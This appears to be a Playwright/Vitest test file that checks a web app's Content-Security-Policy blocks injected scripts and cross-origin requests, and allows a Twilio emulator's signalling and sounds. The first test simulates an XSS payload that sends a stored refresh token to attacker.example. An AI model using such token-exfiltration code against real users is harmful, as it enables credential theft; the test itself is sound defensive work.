import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stack } from '../support/api';
import { launchBrowser, openTab, seen, web } from '../support/browser';

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

describe('the Content-Security-Policy', () => {
  it('lets the app run but stops an injected script and a request to another origin', async () => {
    const { context, page, errors } = await openTab(browser);
    await page.goto(web('/login'));
    await seen(page.getByRole('heading', { name: 'Sign in' }));
    await page.evaluate(() => window.localStorage.setItem('refreshToken', 'stolen-if-you-can'));

    // What an XSS payload would do: run inline code, then send the stored token elsewhere.
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true';
      document.head.append(script);
      const sent = await fetch(`https://attacker.example/?t=${window.localStorage.getItem('refreshToken')}`).then(
        () => true,
        () => false,
      );
      // Violation events are queued as tasks: let them arrive.
      await new Promise((resolve) => setTimeout(resolve, 0));
      return { ran: (window as { __injected?: boolean }).__injected === true, sent, violations: violations.sort() };
    });
    expect(outcome).toEqual({ ran: false, sent: false, violations: ['connect-src', 'script-src-elem'] });
    expect(errors).toEqual([]);
    await context.close();
  });

  it("lets the app reach the Twilio emulator's signalling and sounds over its self-signed TLS port (trusted as the tests' browser does)", async () => {
    const { context, page, errors } = await openTab(browser);
    await page.goto(web('/login'));
    await seen(page.getByRole('heading', { name: 'Sign in' }));
    const signalling = stack().urls.signalling;
    const outcome = await page.evaluate(async (url) => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
      // The Voice SDK's first message; a token that is not one earns its error.
      const reply = await new Promise<string>((resolve) => {
        const socket = new WebSocket(url);
        socket.onopen = () => socket.send(JSON.stringify({ type: 'listen', version: '1.6', payload: { token: 'x' } }));
        socket.onmessage = (e) => {
          resolve(String(e.data));
          socket.close();
        };
        socket.onerror = () => resolve('error');
      });
      const sound = await fetch(url.replace(/^wss:/, 'https:').replace(/\/signal$/, '/sounds/incoming.wav')).then(
        (r) => `${r.status} ${r.headers.get('content-type')}`,
        () => 'failed',
      );
      return { reply: JSON.parse(reply === 'error' ? '{}' : reply), sound, violations };
    }, signalling);
    expect(outcome).toEqual({
      reply: { type: 'error', version: '1.6', payload: { error: { code: 31204, message: 'Invalid Access Token: not a JWT' } } },
      sound: '200 audio/wav',
      violations: [],
    });
    expect(errors).toEqual([]);
    await context.close();
  });
});
